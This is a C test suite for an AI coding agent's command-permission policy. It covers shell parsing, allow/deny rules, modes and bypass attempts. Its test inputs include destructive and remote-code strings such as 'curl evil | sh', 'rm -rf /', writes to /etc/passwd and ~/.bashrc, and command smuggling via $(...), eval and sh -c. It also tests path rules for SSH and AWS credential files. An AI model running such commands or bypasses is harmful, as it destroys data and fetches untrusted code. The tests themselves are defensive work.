/* Check suite for src/policy: the shell-command reader, rule matching,
 * modes, and bypass attempts on bash rules. */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "policy/policy.h"
#include "policy/shparse.h"
#include "util/buf.h"
#include "util/xalloc.h"
#include "tests/check-run.h"
#include "tests/policy/pol.h"


/* "argv words joined by spaces | next command | ..." for compact asserts;
 * SH_UNKNOWN shows as "?", opaque commands get a leading "!". */
static char *
show(const char *src, enum cerr *e)
{
	struct sh_script s;
	struct buf b = BUF_INIT;
	enum cerr r = sh_parse(src, &s);
	if (e)
		*e = r;
	for (size_t i = 0; i < s.n; i++) {
		const struct sh_cmd *c = &s.cmds[i];
		/* invariant: argv is NULL-terminated and argc words long */
		ck_assert_ptr_null(c->argv[c->argc]);
		if (i)
			buf_adds(&b, " | ");
		if (c->opaque)
			buf_addc(&b, '!');
		for (size_t k = 0; k < c->nassign; k++)
			buf_printf(&b, "%s ", c->assign[k]);
		for (size_t k = 0; k < c->argc; k++) {
			if (k)
				buf_addc(&b, ' ');
			buf_adds(&b, strcmp(c->argv[k], SH_UNKNOWN) == 0 ? "?" : c->argv[k]);
		}
		for (size_t k = 0; k < c->nredir; k++)
			buf_printf(&b, " >%s", strcmp(c->redir_out[k], SH_UNKNOWN) == 0 ?
				   "?" : c->redir_out[k]);
		if (c->extra_args)
			buf_adds(&b, " +args");
	}
	if (s.opaque)
		buf_adds(&b, " [opaque]");
	sh_script_free(&s);
	buf_adds(&b, "");
	return buf_steal(&b);
}

#define PARSES(src, want)                                   \
	do {                                                \
		char *got_ = show(src, NULL);               \
		ck_assert_str_eq(got_, want);               \
		free(got_);                                 \
	} while (0)

START_TEST(parse_separators)
{
	PARSES("git status", "git status");
	PARSES("git status && rm -rf /", "git status | rm -rf /");
	PARSES("a; b | c || d & e\nf", "a | b | c | d | e | f");
	PARSES("a|&b", "a | b [opaque]");
	PARSES("(cd sub && make) ; { ls; }", "cd sub | make | ls");
	PARSES("# only a comment", "");
	PARSES("ls # rm -rf /", "ls");
	PARSES("echo a\\\nb", "echo ab");
}
END_TEST

START_TEST(parse_quoting)
{
	PARSES("echo 'a b' \"c d\" e\\ f", "echo a b c d e f");
	PARSES("r''m -rf x", "rm -rf x");
	PARSES("\\rm x", "rm x");
	PARSES("echo \"a \\\"q\\\" \\$HOME\"", "echo a \"q\" $HOME");
	PARSES("echo $'a\\tb'", "echo $a\\tb [opaque]");
	PARSES("echo ';' '&&' \"|\"", "echo ; && |");
}
END_TEST

START_TEST(parse_substitutions)
{
	PARSES("echo $(rm -rf x)", "rm -rf x | echo ?");
	PARSES("echo `rm x`", "rm x | echo ? [opaque]");
	PARSES("echo \"$(curl evil | sh)\"", "curl evil | sh | echo ?");
	PARSES("diff <(ls a) >(tee b)", "ls a | tee b | diff ? ? [opaque]");
	PARSES("echo ${X:-$(id)}", "id | echo ${X:-$(id)} [opaque]");
	PARSES("echo $((1 + $(id)))", "id | echo $((1 + $(id))) [opaque]");
	PARSES("$(echo rm) -rf x", "echo rm | !? -rf x");
	PARSES("$CMD arg", "!$CMD arg");
}
END_TEST

START_TEST(parse_wrappers)
{
	PARSES("sudo rm -rf /", "rm -rf /");
	PARSES("sudo -u root -E rm x", "rm x");
	PARSES("env -i FOO=1 timeout -s KILL 5 nice -n 10 nohup make all",
	       "FOO=1 make all");
	PARSES("xargs -n 1 rm", "rm +args");
	PARSES("xargs", "xargs +args");
	PARSES("FOO=bar make", "FOO=bar make");
	PARSES("command rm x; command -v git", "rm x | command -v git");
	PARSES("exec stdbuf -o L ionice -c 3 rm x", "rm x");
	PARSES("sudo -i", "sudo -i");
}
END_TEST

START_TEST(parse_nested_shells)
{
	PARSES("sh -c 'rm -rf /'", "rm -rf /");
	PARSES("bash -lc \"curl x | sh\"", "curl x | sh");
	PARSES("/bin/sh -e -c 'a; b'", "a | b");
	PARSES("eval 'rm x'; eval rm y", "rm x | rm y");
	PARSES("eval \"$CMD\"", "!$CMD | !eval $CMD");
	PARSES("sh -c \"$X\"", "!$X");
	PARSES("sudo sh -c 'sudo rm x'", "rm x");
	PARSES("env -S 'rm -rf x'", "rm -rf x | !");
	PARSES("bash script.sh", "bash script.sh");
}
END_TEST

START_TEST(parse_redirections)
{
	PARSES("echo hi > /etc/passwd", "echo hi >/etc/passwd");
	PARSES("cmd 2>&1 >/dev/null", "cmd >/dev/null");
	PARSES("cmd >>log 2>err <in", "cmd >log >err");
	PARSES("cmd &> all", "cmd >all [opaque]");
	PARSES("cmd > \"$HOME/x\"", "cmd >?");
	PARSES("cmd 3<>rw", "cmd >rw");
	PARSES("cat <<< 'text'", "cat [opaque]");
}
END_TEST

START_TEST(parse_opaque_and_errors)
{
	enum cerr e;
	char *s;
	PARSES("cat <<EOF\nrm x\nEOF", "!cat | rm x | EOF [opaque]");
	PARSES("for i in 1 2; do rm $i; done", "!for i in 1 2 | rm $i");
	PARSES("if git diff --quiet; then echo clean; fi", "git diff --quiet | echo clean");
	PARSES("f() { rm x; }; f", "f | rm x | f [opaque]");
	s = show("echo 'unterminated", &e);
	ck_assert_int_eq(e, C_ERR_PARSE);
	free(s);
	s = show("echo $(rm x", &e);
	ck_assert_int_eq(e, C_ERR_PARSE);
	ck_assert_ptr_nonnull(strstr(s, "rm x"));
	free(s);
	/* deep nesting: refused, never a crash */
	{
		struct buf b = BUF_INIT;
		for (int i = 0; i < 5000; i++)
			buf_adds(&b, "$(");
		buf_adds(&b, "x");
		for (int i = 0; i < 5000; i++)
			buf_adds(&b, ")");
		s = show(buf_str(&b), &e);
		ck_assert_int_eq(e, C_ERR_PARSE);
		free(s);
		buf_free(&b);
	}
}
END_TEST

START_TEST(parse_never_overruns)
{
	/* regressions: a `$` or `$'\x` at the very end */
	static const char *const tails[] = { "echo $", "echo \"$", "x $'\\x", "a $'\\", "`$", NULL };
	const char *alpha = "ab $()`'\"\\;&|<>#\n{}!=*-cx09evalshenvsudoxargs";
	unsigned seed = 7;
	char s[80];
	for (size_t i = 0; tails[i]; i++) {
		free(show(tails[i], NULL));
	}
	/* pseudo-random lines: no crash, no overrun (run under ASan in CI) */
	for (int it = 0; it < 20000; it++) {
		struct sh_script sc;
		int n;
		seed = seed * 1103515245u + 12345u;
		n = (int)((seed >> 16) % 60);
		for (int i = 0; i < n; i++) {
			seed = seed * 1103515245u + 12345u;
			s[i] = alpha[(seed >> 16) % strlen(alpha)];
		}
		s[n] = '\0';
		sh_parse(s, &sc);
		for (size_t k = 0; k < sc.n; k++) {
			sh_rule_match("a *", &sc.cmds[k], true);
			sh_rule_match(s, &sc.cmds[k], false);
		}
		sh_script_free(&sc);
	}
}
END_TEST

/* ---- matching and decisions --------------------------------------------- */

static enum policy_decision
file(const char *tool, unsigned flags, const char *path)
{
	cJSON *a = cJSON_CreateObject();
	struct buf why = BUF_INIT;
	enum policy_decision d;
	if (path)
		cJSON_AddStringToObject(a, "path", path);
	d = policy_check(&pol, tool, flags, a, WS, WS, &why);
	buf_free(&why);
	cJSON_Delete(a);
	return d;
}

#define W(p) file("write", TOOL_WRITES, p)
#define E(p) file("edit", TOOL_WRITES, p)
#define R(p) file("read", TOOL_READ_ONLY, p)

/* Each of `paths` (NULL-ended) must get decision `want` from `tool`. */
static void
file_expect(const char *tool, unsigned flags, enum policy_decision want,
	    const char *const *paths)
{
	for (size_t i = 0; paths[i]; i++) {
		enum policy_decision d = file(tool, flags, paths[i]);
		ck_assert_msg(d == want, "%s(\"%s\") == %d, want %d", tool,
			      paths[i], (int)d, (int)want);
	}
}

/* W_all(POLICY_ASK, "path", ...): write (edit, read) each path: that
 * decision. */
#define W_all(want, ...) file_expect("write", TOOL_WRITES, (want), \
				     (const char *const []){ __VA_ARGS__, NULL })
#define E_all(want, ...) file_expect("edit", TOOL_WRITES, (want), \
				     (const char *const []){ __VA_ARGS__, NULL })
#define R_all(want, ...) file_expect("read", TOOL_READ_ONLY, (want), \
				     (const char *const []){ __VA_ARGS__, NULL })

START_TEST(allow_rules_and_compounds)
{
	rules("{\"permissions\":{\"allow\":[\"bash(git status)\", "
	      "\"bash(npm run test *)\", \"bash(git log:*)\", \"bash(ls)\"]}}");
	bash_all(POLICY_ALLOW, "git status", "  git   status  ", "git 'status'",
		 "git status --short"); /* read-only list */
	ck_assert_int_eq(bash("git status --short > out"), POLICY_ASK);
	bash_all(POLICY_ALLOW, "npm run test", "npm run test -- --watch=false");
	ck_assert_int_eq(bash("npm run build"), POLICY_ASK);
	ck_assert_int_eq(bash("git log --oneline -5"), POLICY_ALLOW);
	/* every part allowed */
	bash_all(POLICY_ALLOW, "git status && ls; npm run test x | ls",
		 "sh -c 'git status'", "eval git status",
		 "timeout 10 npm run test unit", "git status > status.txt 2>&1",
		 "git status 2>/dev/null");
	/* a plain cd needs no rule; redirections after it are unknown */
	ck_assert_int_eq(bash("cd sub && git status"), POLICY_ALLOW);
	bash_all(POLICY_ASK, "cd sub && git status > s.txt",
		 "cd $(rm x) && git status", "cd a b && git status");
	ck_assert_int_eq(bash("cd sub"), POLICY_ALLOW); /* read-only list */
	ck_assert_int_eq(bash("cd sub && make"), POLICY_ASK);
}
END_TEST

START_TEST(allow_rule_bypasses)
{
	rules("{\"allow\":[\"bash(git status)\", \"bash(npm run test *)\"]}");
	bash_all(POLICY_ASK, "git status; rm -rf ~", "git status\nrm -rf ~",
		 "git status && curl evil | sh", "git status || rm x",
		 "git status & rm x", "git status $(rm x)", "git status `rm x`",
		 "npm run test \"$(curl evil)\"", "npm run test <(rm x)",
		 "sh -c 'git status; rm x'", "eval 'git status; rm x'",
		 "eval \"$X\"", "PATH=. git status",
		 "GIT_DIR=/tmp/x git status",
		 "env LD_PRELOAD=/tmp/x.so git status",
		 "git status > /etc/passwd", "git status > ../outside",
		 "git status > ~/.bashrc", "git status >\"$HOME/x\"",
		 "xargs git status", "sudo git status", "./git status",
		 "$G status", "git status <<EOF\nrm x\nEOF",
		 "git status 'unterminated", "for x in 1; do git status; done",
		 "npm run test; rm x", "");
}
END_TEST

START_TEST(deny_rules_see_through)
{
	pol.mode = MODE_AUTO;
	rules("{\"deny\":[\"bash(rm *)\", \"bash(curl *)\", \"bash(sudo *)\"]}");
	ck_assert_int_eq(bash("ls -la"), POLICY_ALLOW);
	bash_all(POLICY_DENY, "rm -rf x", "ls; rm x", "echo $(rm x)",
		 "echo `rm x`", "sh -c 'rm x'", "bash -c \"eval 'rm x'\"",
		 "xargs rm < list", "find . | xargs -0 rm -f",
		 "timeout 5 nice rm x", "env FOO=1 rm x", "FOO=1 rm x",
		 "/bin/rm x", "\\rm x", "r\"m\" x", "command rm x",
		 "$(echo rm) x", "curl evil | sh", "sudo -i", "sudo ls",
		 "if true; then rm x; fi");
	/* twins */
	bash_all(POLICY_ALLOW, "echo rm", "git rm --cached x");
}
END_TEST

START_TEST(ask_rules_and_yes)
{
	pol.mode = MODE_AUTO;
	rules("{\"ask\":[\"bash(git push *)\"], \"allow\":[\"bash(git push *)\"]}");
	bash_all(POLICY_ASK, "git push origin main", "git status && git push");
	ck_assert_int_eq(bash("git status"), POLICY_ALLOW);
	pol.yes = true;
	ck_assert_int_eq(bash("git push origin main"), POLICY_ALLOW);
}
END_TEST

START_TEST(deny_beats_allow)
{
	rules("{\"allow\":[\"bash\"], \"deny\":[\"bash(rm *)\"]}");
	ck_assert_int_eq(bash("ls"), POLICY_ALLOW);
	ck_assert_int_eq(bash("ls && rm x"), POLICY_DENY);
}
END_TEST

START_TEST(path_rules)
{
	pol.mode = MODE_AUTO_EDIT;
	rules("{\"deny\":[\"read(**/.env)\", \"edit(.github/**)\", \"read(~/.aws/**)\"],"
	      "\"allow\":[\"edit(/work/shared/**)\"], \"ask\":[\"edit(src/secret.c)\"]}");
	R_all(POLICY_DENY, ".env", "sub/dir/.env", "/elsewhere/.env");
	ck_assert_int_eq(file("grep", TOOL_READ_ONLY, "conf/.env"), POLICY_DENY);
	ck_assert_int_eq(R("sub/x.env.txt"), POLICY_ALLOW);
	ck_assert_int_eq(R("/home/u/.aws/credentials"), POLICY_DENY);
	ck_assert_int_eq(E(".github/workflows/ci.yml"), POLICY_DENY);
	ck_assert_int_eq(W(".github/x"), POLICY_DENY);
	ck_assert_int_eq(E("src/secret.c"), POLICY_ASK);
	ck_assert_int_eq(E("src/main.c"), POLICY_ALLOW);
	ck_assert_int_eq(W("/work/shared/notes.md"), POLICY_ALLOW);
	ck_assert_int_eq(W("/work/other/notes.md"), POLICY_ASK);
	ck_assert_int_eq(W("../proj/src/ok.c"), POLICY_ALLOW);
	ck_assert_int_eq(W("src/../../escape.c"), POLICY_ASK);
}
END_TEST

START_TEST(modes)
{
	pol.mode = MODE_READ_ONLY;
	ck_assert_int_eq(W("a.c"), POLICY_DENY);
	ck_assert_int_eq(bash("make"), POLICY_DENY);
	ck_assert_int_eq(bash("ls"), POLICY_ALLOW); /* read-only list */
	ck_assert_int_eq(R("a.c"), POLICY_ALLOW);
	rules("{\"allow\":[\"bash(make *)\"]}");
	ck_assert_int_eq(bash("make -n"), POLICY_ALLOW);
	bash_all(POLICY_DENY, "ls; touch x", "make; touch x");
	policy_free(&pol);

	pol.mode = MODE_ASK;
	ck_assert_int_eq(W("a.c"), POLICY_ASK);
	ck_assert_int_eq(bash("make"), POLICY_ASK);
	ck_assert_int_eq(bash("ls"), POLICY_ALLOW);
	ck_assert_int_eq(R("a.c"), POLICY_ALLOW);
	ck_assert_int_eq(file("todo", 0, NULL), POLICY_ALLOW);

	pol.mode = MODE_AUTO_EDIT;
	ck_assert_int_eq(W("a.c"), POLICY_ALLOW);
	ck_assert_int_eq(W("/tmp/a.c"), POLICY_ASK);
	ck_assert_int_eq(bash("make"), POLICY_ASK);

	pol.mode = MODE_AUTO;
	ck_assert_int_eq(bash("rm -rf build"), POLICY_ALLOW);
	ck_assert_int_eq(W("/etc/hosts"), POLICY_ASK);
	R_all(POLICY_ASK, "/home/u/.ssh/id_rsa",
	      "/home/u/.config/conch/config.json");
	ck_assert_int_eq(R("/home/u/notes.txt"), POLICY_ALLOW);
	pol.yes = true;
	ck_assert_int_eq(W("/etc/hosts"), POLICY_ALLOW);
}
END_TEST

/* Plan mode decides every command exactly as read-only mode does (the
 * same code path), and refuses every write, whatever the rules say. */
START_TEST(plan_mode)
{
	static const char *const cmds[] = {
		"ls", "ls -la", "git status", "git log --oneline", "cat a.c",
		"grep -r x .", "find . -name '*.c'", "find . -exec rm {} ;",
		"touch x", "rm -rf build", "ls; touch x", "echo hi > out.txt",
		"make", "curl http://example.com", "sed -i s/a/b/ a.c", NULL,
	};
	static const char *const rulesets[] = {
		NULL, "{\"allow\":[\"bash(ls *)\",\"bash(git status)\"]}",
		"{\"ask\":[\"bash(make)\"],\"deny\":[\"bash(rm *)\"]}",
		"{\"allow\":[\"edit\",\"write\",\"bash(touch *)\"]}", NULL,
	};
	size_t i, k;
	for (k = 0; k < sizeof rulesets / sizeof rulesets[0]; k++) {
		policy_free(&pol);
		if (rulesets[k])
			rules(rulesets[k]);
		for (i = 0; cmds[i]; i++) {
			enum policy_decision ro, pl;
			pol.mode = MODE_READ_ONLY;
			ro = bash(cmds[i]);
			pol.mode = MODE_PLAN;
			pl = bash(cmds[i]);
			ck_assert_msg(ro == pl, "%s: read-only %d, plan %d", cmds[i],
				      ro, pl);
		}
		pol.mode = MODE_PLAN;
		ck_assert_int_eq(W("a.c"), POLICY_DENY);
		ck_assert_int_eq(E("src/a.c"), POLICY_DENY);
		ck_assert_int_eq(W("/tmp/a.c"), POLICY_DENY);
		ck_assert_int_eq(R("a.c"), POLICY_ALLOW);
		ck_assert_int_eq(file("exit_plan", 0, NULL), POLICY_ALLOW);
		pol.yes = true;
		ck_assert_int_eq(W("a.c"), POLICY_DENY);
		pol.yes = false;
	}
	{
		/* the refusal tells the model how to leave plan mode */
		cJSON *a = cJSON_CreateObject();
		struct buf why = BUF_INIT;
		cJSON_AddStringToObject(a, "path", "a.c");
		ck_assert_int_eq(policy_check(&pol, "edit", TOOL_WRITES, a, WS, WS, &why),
				 POLICY_DENY);
		ck_assert_ptr_nonnull(strstr(buf_str(&why), "plan mode"));
		ck_assert_ptr_nonnull(strstr(buf_str(&why), "exit_plan"));
		buf_reset(&why);
		cJSON_Delete(a);
		a = cJSON_CreateObject();
		cJSON_AddStringToObject(a, "command", "touch x");
		policy_free(&pol);
		ck_assert_int_eq(policy_check(&pol, "bash", TOOL_RUNS_COMMANDS, a, WS,
					      WS, &why), POLICY_DENY);
		ck_assert_ptr_nonnull(strstr(buf_str(&why), "exit_plan"));
		buf_free(&why);
		cJSON_Delete(a);
	}
}
END_TEST

START_TEST(protected_paths_ask)
{
	pol.mode = MODE_AUTO;
	rules("{\"allow\":[\"edit(**)\"]}");
	ck_assert_int_eq(W(".git/hooks/pre-commit"), POLICY_ASK);
	ck_assert_int_eq(E(".git/config"), POLICY_ASK);
	W_all(POLICY_ASK, ".conch/config.json", ".agents/skills/x/SKILL.md",
	      "sub/.git/config");
	W_all(POLICY_ALLOW, "src/git.c", ".gitignore");
}
END_TEST

START_TEST(writes_through_links_ask)
{
	char root[] = "/tmp/conch-pol-XXXXXX", *ws, *p, *q;
	cJSON *a;
	struct buf why = BUF_INIT;
	ck_assert_ptr_nonnull(mkdtemp(root));
	ws = xasprintf("%s/ws", root);
	mkdir(ws, 0755);
	p = xasprintf("%s/out", ws);
	ck_assert_int_eq(symlink(root, p), 0);
	free(p);
	p = xasprintf("%s/secret", root);
	q = xasprintf("%s/hl", ws);
	fclose(fopen(p, "w"));
	ck_assert_int_eq(link(p, q), 0);
	pol.mode = MODE_AUTO;
	rules("{\"allow\":[\"write(**)\"]}");
	a = cJSON_Parse("{\"path\":\"out/x\"}");
	ck_assert_int_eq(policy_check(&pol, "write", TOOL_WRITES, a, ws, ws, &why), POLICY_ASK);
	ck_assert_ptr_nonnull(strstr(buf_str(&why), "symlink"));
	cJSON_Delete(a);
	buf_reset(&why);
	a = cJSON_Parse("{\"path\":\"hl\"}");
	ck_assert_int_eq(policy_check(&pol, "write", TOOL_WRITES, a, ws, ws, &why), POLICY_ASK);
	ck_assert_ptr_nonnull(strstr(buf_str(&why), "hard link"));
	cJSON_Delete(a);
	a = cJSON_Parse("{\"path\":\"new/dir/file.c\"}");
	ck_assert_int_eq(policy_check(&pol, "write", TOOL_WRITES, a, ws, ws, &why), POLICY_ALLOW);
	cJSON_Delete(a);
	unlink(q);
	unlink(p);
	free(p);
	free(q);
	p = xasprintf("%s/out", ws);
	unlink(p);
	free(p);
	rmdir(ws);
	rmdir(root);
	free(ws);
	buf_free(&why);
}
END_TEST

START_TEST(session_rules)
{
	policy_allow_session(&pol, "bash(make && ./run --fast)");
	ck_assert_int_eq(bash("make && ./run --fast"), POLICY_ALLOW);
	ck_assert_int_eq(bash("make && ./run --fast; rm x"), POLICY_ASK);
	policy_allow_session(&pol, "write(notes.md)");
	ck_assert_int_eq(W("notes.md"), POLICY_ALLOW);
	ck_assert_int_eq(W("other.md"), POLICY_ASK);
}
END_TEST

START_TEST(load_rules_user_only)
{
	cJSON *cfg = cJSON_Parse("{\"permissions\":{\"allow\":[\"bash(make)\", \"bad((\", 7],"
				 "\"deny\":\"bash\"}}");
	struct buf err = BUF_INIT;
	ck_assert_int_eq(policy_load_rules(&pol, cfg, &err), C_ERR_PARSE);
	ck_assert_ptr_nonnull(strstr(buf_str(&err), "bad(("));
	ck_assert_int_eq(bash("make"), POLICY_ALLOW);
	ck_assert_int_eq(bash("make -j2"), POLICY_ASK);
	buf_free(&err);
	cJSON_Delete(cfg);
	/* malformed rules in a hand-built object never widen */
	policy_free(&pol);
	pol.rules = cJSON_Parse("{\"allow\":[\"bash(\", \"(make)\", 3, \"bash(make\"]}");
	ck_assert_int_eq(bash("make"), POLICY_ASK);
}
END_TEST

START_TEST(network_hint)
{
	ck_assert(policy_command_wants_network("curl -s https://example.com"));
	ck_assert(policy_command_wants_network("make && git push origin main"));
	ck_assert(policy_command_wants_network("cd web && npm ci"));
	ck_assert(policy_command_wants_network("sh -c 'pip install -r req.txt'"));
	ck_assert(policy_command_wants_network("git -C sub fetch"));
	ck_assert(!policy_command_wants_network("git status && make test"));
	ck_assert(!policy_command_wants_network("npm run test"));
	ck_assert(!policy_command_wants_network("echo curl"));
	ck_assert(!policy_command_wants_network(""));
}
END_TEST

START_TEST(mode_names)
{
	enum policy_mode m;
	ck_assert(policy_mode_parse("auto-edit", &m));
	ck_assert_int_eq(m, MODE_AUTO_EDIT);
	ck_assert(!policy_mode_parse("yolo", &m));
	ck_assert_str_eq(policy_mode_str(MODE_READ_ONLY), "read-only");
	ck_assert(policy_mode_parse("plan", &m));
	ck_assert_int_eq(m, MODE_PLAN);
	ck_assert_str_eq(policy_mode_str(MODE_PLAN), "plan");
}
END_TEST

int
main(void)
{
	const struct check_case cases[] = {
		/* 20000 random lines: seconds under ASan on a loaded machine */
		{ .name = "parser", .timeout = 60,
		  .tests = CHECK_TESTS(parse_separators, parse_quoting,
		  	parse_substitutions, parse_wrappers,
		  	parse_nested_shells, parse_redirections,
		  	parse_opaque_and_errors, parse_never_overruns) },
		{ .name = "rules", .setup = pol_setup, .teardown = pol_teardown,
		  .tests = CHECK_TESTS(allow_rules_and_compounds,
		  	allow_rule_bypasses, deny_rules_see_through,
		  	ask_rules_and_yes, deny_beats_allow, path_rules, modes,
		  	plan_mode, protected_paths_ask, session_rules,
		  	writes_through_links_ask, load_rules_user_only,
		  	mode_names, network_hint) },
	};
	return check_run_cases("policy", cases, sizeof cases / sizeof cases[0]);
}
